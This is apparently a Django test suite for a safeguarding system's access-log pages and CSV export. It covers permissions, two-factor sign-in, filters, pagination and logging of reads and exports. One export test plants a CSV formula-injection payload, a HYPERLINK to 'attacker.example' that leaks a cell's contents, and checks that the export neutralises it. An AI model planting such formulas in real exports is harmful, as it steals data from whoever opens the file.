"""The access log's pages and CSV export: personas, filters, pagination, and reading the log being logged."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from safeguarding.accesslog.links import person_activity_url, who_viewed_url
from safeguarding.accesslog.models import AccessEvent
from safeguarding.accesslog.selectors import access_log_verify
from safeguarding.accesslog.services import access_event_record
from safeguarding.accesslog.tests.helpers import raw_update
from safeguarding.core.testing import Personas, make_user, sign_in

pytestmark = pytest.mark.django_db

LIST_URL = reverse("accesslog:list")
EXPORT_URL = reverse("accesslog:export")
LONDON = ZoneInfo("Europe/London")
Action = AccessEvent.Action


def _page(response: Any) -> str:
    return response.content.decode()


def _csv(response: Any) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))


def _view(actor: Any, subject: Any, **kwargs: Any) -> AccessEvent:
    return access_event_record(actor=actor, action=Action.VIEW, subject=subject, **kwargs)


# --- Personas -----------------------------------------------------------------------------------------------


def test_business_unit_manager_sees_the_log(personas: Personas) -> None:
    _view(personas.a_worker, personas.b_worker, purpose="Checking a referral")
    response = personas.client("bu_manager").get(LIST_URL)
    assert response.status_code == 200
    page = _page(response)
    assert response.context["page_title"] == "Access log"
    assert response.context["current_area"] == "administration"
    assert "Ada Worker" in page
    assert "Bea Worker" in page
    assert "Checking a referral" in page
    assert "Download these events as CSV" in page


def test_independent_scrutineer_sees_the_log_and_can_export() -> None:
    scrutineer = make_user("independent_scrutineer")
    client = sign_in(Client(), scrutineer)
    assert client.get(LIST_URL).status_code == 200
    assert client.get(EXPORT_URL).status_code == 200


@pytest.mark.parametrize("persona", ["bu_officer", "a_worker", "a_readonly", "b_worker", "sysadmin"])
def test_roles_without_the_access_log_permission_get_403(personas: Personas, persona: str) -> None:
    client = personas.client(persona)
    assert client.get(LIST_URL).status_code == 403
    assert client.get(person_activity_url(personas.a_worker.pk)).status_code == 403
    assert client.get(EXPORT_URL).status_code == 403
    assert not AccessEvent.objects.filter(action__in=[Action.LIST, Action.EXPORT]).exists()


@pytest.mark.parametrize("url", [LIST_URL, EXPORT_URL, reverse("accesslog:person", args=[1])])
def test_signed_out_people_are_sent_to_sign_in(url: str) -> None:
    response = Client().get(url)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:sign-in"))


@pytest.mark.parametrize("url", [LIST_URL, EXPORT_URL, reverse("accesslog:person", args=[1])])
def test_only_get_is_answered(personas: Personas, url: str) -> None:
    client = personas.client("bu_manager")
    assert client.post(url).status_code == 405
    assert client.put(url).status_code == 405


def test_two_factor_sign_in_is_needed_because_the_log_names_records(personas: Personas) -> None:
    client = personas.client("bu_manager", two_factor=False)
    response = client.get(LIST_URL)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:two-factor-setup"))
    assert not AccessEvent.objects.filter(action=Action.LIST).exists()


# --- Reading the log is logged -----------------------------------------------------------------------------


def test_viewing_the_log_is_itself_logged_with_the_filters(personas: Personas) -> None:
    client = personas.client("bu_manager")
    client.get(LIST_URL, {"action": "view", "agency": "Agency A", "date_from": "1/4/2025"})
    event = AccessEvent.objects.get(action=Action.LIST)
    assert event.actor_id == personas.bu_manager.pk
    assert event.subject_type == "accesslog.accessevent"
    assert event.details == {
        "filters": {"action": "view", "agency": "Agency A", "date_from": "2025-04-01"},
        "page": 1,
        "shown": 0,
    }
    assert event.request_id
    assert access_log_verify().ok


def test_a_form_with_errors_shows_no_events_and_logs_nothing(personas: Personas) -> None:
    response = personas.client("bu_manager").get(
        LIST_URL, {"date_from": "31/02/2025", "date_to": "yesterday"}
    )
    assert response.status_code == 200
    page = _page(response)
    assert "There is a problem" in page
    assert '<a href="#id_date_from">From must be a real date, for example 27/3/2025</a>' in page
    assert '<a href="#id_date_to">To must be a real date, for example 27/3/2025</a>' in page
    assert "govuk-input--error" in page
    assert response.context["page_title"] == "Error: Access log"
    assert response.context["page"] is None
    assert not AccessEvent.objects.filter(action=Action.LIST).exists()


def test_to_before_from_is_an_error(personas: Personas) -> None:
    response = personas.client("bu_manager").get(LIST_URL, {"date_from": "2/4/2025", "date_to": "1/4/2025"})
    assert "To must be the same as or after From" in _page(response)


def test_a_person_that_is_neither_an_email_nor_a_number_is_an_error(personas: Personas) -> None:
    response = personas.client("bu_manager").get(LIST_URL, {"actor": "Ada"})
    assert "Enter the person&#x27;s email address" in _page(response)


def test_a_record_number_without_a_type_is_an_error(personas: Personas) -> None:
    response = personas.client("bu_manager").get(LIST_URL, {"subject_id": "12"})
    assert "Enter the record type as well as the record number" in _page(response)


# --- Filters ------------------------------------------------------------------------------------------------


def _shown(response: Any) -> list[int]:
    return [event.pk for event in response.context["page"].object_list]


def test_who_viewed_this_record(personas: Personas) -> None:
    seen = _view(personas.a_worker, personas.b_worker)
    also_seen = _view(personas.bu_officer, personas.b_worker)
    _view(personas.a_worker, personas.a_readonly)
    client = personas.client("bu_manager")
    response = client.get(who_viewed_url(personas.b_worker))
    assert _shown(response) == [also_seen.pk, seen.pk]
    assert response.context["heading"] == f"Who viewed or changed accounts.user {personas.b_worker.pk}"


def test_what_did_this_person_view(personas: Personas) -> None:
    first = _view(personas.a_worker, personas.b_worker)
    _view(personas.bu_officer, personas.b_worker)
    second = _view(personas.a_worker, personas.a_readonly)
    client = personas.client("bu_manager")
    response = client.get(person_activity_url(personas.a_worker.pk))
    assert response.status_code == 200
    assert _shown(response) == [second.pk, first.pk]
    assert response.context["heading"] == "What Ada Worker (a.worker@example.org) viewed and did"
    logged = AccessEvent.objects.filter(action=Action.LIST).get()
    assert logged.details["filters"] == {"actor_id": personas.a_worker.pk}
    # The per-person page filters further, and its export is of that person.
    narrowed = client.get(
        person_activity_url(personas.a_worker.pk),
        {"subject_id": str(personas.a_readonly.pk), "subject_type": "accounts.user"},
    )
    assert _shown(narrowed) == [second.pk]
    assert f"actor={personas.a_worker.pk}" in narrowed.context["export_url"]


def test_filter_by_person_email_or_number(personas: Personas) -> None:
    mine = _view(personas.a_worker, personas.b_worker)
    _view(personas.b_worker, personas.a_worker)
    client = personas.client("bu_manager")
    assert _shown(client.get(LIST_URL, {"actor": "A.Worker@example.org"})) == [mine.pk]
    assert _shown(client.get(LIST_URL, {"actor": str(personas.a_worker.pk)})) == [mine.pk]


def test_filter_by_agency_as_it_was_when_they_acted(personas: Personas) -> None:
    from_a = _view(personas.a_worker, personas.b_worker)
    _view(personas.b_worker, personas.a_worker)
    client = personas.client("bu_manager")
    assert _shown(client.get(LIST_URL, {"agency": "agency a"})) == [from_a.pk]


def test_filter_by_action(personas: Personas) -> None:
    _view(personas.a_worker, personas.b_worker)
    exported = access_event_record(
        actor=personas.a_worker, action=Action.EXPORT, subject_type="children.child"
    )
    client = personas.client("bu_manager")
    assert _shown(client.get(LIST_URL, {"action": "export"})) == [exported.pk]


def test_filter_by_dates_in_london_time(personas: Personas) -> None:
    early = _view(personas.a_worker, personas.b_worker)
    late = _view(personas.a_worker, personas.b_worker)
    # Move the events in time behind the application's back (the only way to backdate an event).
    raw_update(early.pk, occurred_at=datetime(2025, 3, 31, 23, 30, tzinfo=LONDON))  # 22:30 UTC on the 31st
    raw_update(late.pk, occurred_at=datetime(2025, 4, 1, 0, 30, tzinfo=LONDON))  # 23:30 UTC on the 31st
    client = personas.client("bu_manager")
    assert _shown(client.get(LIST_URL, {"date_from": "1/4/2025", "date_to": "1/4/2025"})) == [late.pk]
    assert _shown(client.get(LIST_URL, {"date_from": "2025-03-31", "date_to": "31/3/2025"})) == [early.pk]


def test_newest_first_in_pages_of_fifty(personas: Personas) -> None:
    events = [_view(personas.a_worker, personas.b_worker) for _ in range(55)]
    client = personas.client("bu_manager")
    first = client.get(LIST_URL, {"action": "view"})
    assert _shown(first) == [e.pk for e in reversed(events)][:50]
    page = _page(first)
    assert 'class="govuk-pagination"' in page
    assert 'href="?action=view&amp;page=2" rel="next"' in page
    second = client.get(LIST_URL, {"action": "view", "page": "2"})
    assert _shown(second) == [e.pk for e in reversed(events)][50:]
    assert 'aria-current="page">2<' in _page(second)
    assert AccessEvent.objects.filter(action=Action.LIST).latest("id").details["page"] == 2


def test_the_list_does_not_query_per_event(personas: Personas) -> None:
    client = personas.client("bu_manager")
    _view(personas.a_worker, personas.b_worker)
    client.get(LIST_URL)  # warm up per-session queries
    with CaptureQueriesContext(connection) as few:
        client.get(LIST_URL)
    for _ in range(40):
        _view(personas.a_worker, personas.b_worker)
    with CaptureQueriesContext(connection) as many:
        client.get(LIST_URL)
    assert len(many) == len(few)


# --- Export -------------------------------------------------------------------------------------------------


def test_export_streams_the_filtered_rows_and_is_logged(personas: Personas) -> None:
    wanted = _view(personas.a_worker, personas.b_worker, purpose="Strategy discussion")
    _view(personas.b_worker, personas.a_worker)
    response = personas.client("bu_manager").get(EXPORT_URL, {"actor": "a.worker@example.org"})
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="access-log-')
    assert "no-store" in response["Cache-Control"]
    rows = _csv(response)
    assert rows[0][:4] == ["Event", "When", "Action", "Person"]
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Event"] == str(wanted.pk)
    assert row["Person"] == "Ada Worker"
    assert row["Action"] == "Viewed"
    assert row["Purpose or reason"] == "Strategy discussion"
    assert row["Record"].startswith("Bea Worker")
    assert row["Hash"] == wanted.hash
    export = AccessEvent.objects.get(action=Action.EXPORT)
    assert export.details == {"filters": {"actor_email": "a.worker@example.org"}, "rows": 1, "format": "csv"}
    assert export.actor_id == personas.bu_manager.pk


def test_the_export_is_the_log_as_it_stood_without_its_own_export_event(personas: Personas) -> None:
    _view(personas.a_worker, personas.b_worker)
    rows = _csv(personas.client("bu_manager").get(EXPORT_URL))
    exported_actions = {row[2] for row in rows[1:]}
    assert "Exported" not in exported_actions
    assert AccessEvent.objects.filter(action=Action.EXPORT).count() == 1


def test_export_neutralises_a_formula_planted_in_a_record_label(personas: Personas) -> None:
    planted = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
    access_event_record(
        actor=personas.a_worker,
        action=Action.VIEW,
        subject_type="children.child",
        subject_id="7",
        subject_label=planted,
        purpose="+SUM(1,2)",
    )
    rows = _csv(personas.client("bu_manager").get(EXPORT_URL, {"subject_type": "children.child"}))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Record"] == "'" + planted
    assert row["Purpose or reason"] == "'+SUM(1,2)"
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)


def test_export_with_bad_filters_goes_back_to_the_form(personas: Personas) -> None:
    response = personas.client("bu_manager").get(EXPORT_URL, {"date_from": "32/1/2025"})
    assert response.status_code == 302
    assert response["Location"] == f"{LIST_URL}?date_from=32%2F1%2F2025"
    assert not AccessEvent.objects.filter(action=Action.EXPORT).exists()


def test_export_of_many_events_is_complete(personas: Personas) -> None:
    events = [_view(personas.a_worker, personas.b_worker) for _ in range(120)]
    rows = _csv(personas.client("bu_manager").get(EXPORT_URL, {"action": "view"}))
    assert [int(r[0]) for r in rows[1:]] == [e.pk for e in reversed(events)]


def test_times_in_the_export_are_london_time_with_offset(personas: Personas) -> None:
    event = _view(personas.a_worker, personas.b_worker)
    raw_update(event.pk, occurred_at=datetime(2025, 7, 1, 9, 0, tzinfo=LONDON))
    rows = _csv(personas.client("bu_manager").get(EXPORT_URL, {"action": "view"}))
    assert rows[1][1] == "2025-07-01T09:00:00+01:00"


# --- Input from outside -------------------------------------------------------------------------------------

TOO_BIG = str(10**20)


@pytest.mark.parametrize("number", [TOO_BIG, str(2**63), "0", "²", "١٢"])
def test_a_user_number_out_of_range_or_not_plain_digits_is_a_form_error(
    personas: Personas, number: str
) -> None:
    client = personas.client("bu_manager")
    response = client.get(LIST_URL, {"actor": number})
    assert response.status_code == 200
    assert response.context["page"] is None
    assert response.context["form"].errors["actor"]
    assert '<a href="#id_actor">' in _page(response)
    assert not AccessEvent.objects.filter(action=Action.LIST).exists()
    export = client.get(EXPORT_URL, {"actor": number})
    assert export.status_code == 302
    assert not AccessEvent.objects.filter(action=Action.EXPORT).exists()


def test_a_huge_user_number_says_what_numbers_there_are(personas: Personas) -> None:
    response = personas.client("bu_manager").get(LIST_URL, {"actor": TOO_BIG})
    assert "Enter a user number from 1 to 9223372036854775807" in _page(response)


def test_the_largest_user_number_is_a_search_that_finds_nobody(personas: Personas) -> None:
    _view(personas.a_worker, personas.b_worker)
    client = personas.client("bu_manager")
    assert _shown(client.get(LIST_URL, {"actor": str(2**63 - 1)})) == []
    assert _shown(client.get(LIST_URL, {"actor": f"00{personas.a_worker.pk}"})) != []


@pytest.mark.parametrize("user_id", [10**20, 2**63, 0])
def test_the_person_page_for_a_user_number_out_of_range_is_not_found(
    personas: Personas, user_id: int
) -> None:
    client = personas.client("bu_manager")
    assert client.get(f"{LIST_URL}people/{user_id}/").status_code == 404
    assert not AccessEvent.objects.filter(action=Action.LIST).exists()
    # Without the permission it is still 403 first: the range says nothing to someone who may not look.
    assert personas.client("a_worker").get(f"{LIST_URL}people/{user_id}/").status_code == 403


def test_the_person_page_for_the_largest_user_number_is_empty(personas: Personas) -> None:
    response = personas.client("bu_manager").get(person_activity_url(2**63 - 1))
    assert response.status_code == 200
    assert _shown(response) == []


def test_dates_at_the_ends_of_the_calendar_are_not_an_error(personas: Personas) -> None:
    event = _view(personas.a_worker, personas.b_worker)
    response = personas.client("bu_manager").get(LIST_URL, {"date_from": "1/1/0001", "date_to": "31/12/9999"})
    assert response.status_code == 200
    assert event.pk in _shown(response)


@pytest.mark.parametrize(
    "url", [LIST_URL, EXPORT_URL, reverse("accesslog:person", args=[1])], ids=["list", "export", "person"]
)
def test_every_page_of_the_log_needs_two_factor_sign_in(personas: Personas, url: str) -> None:
    response = personas.client("bu_manager", two_factor=False).get(url)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:two-factor-setup"))
    assert not AccessEvent.objects.filter(action__in=[Action.LIST, Action.EXPORT]).exists()
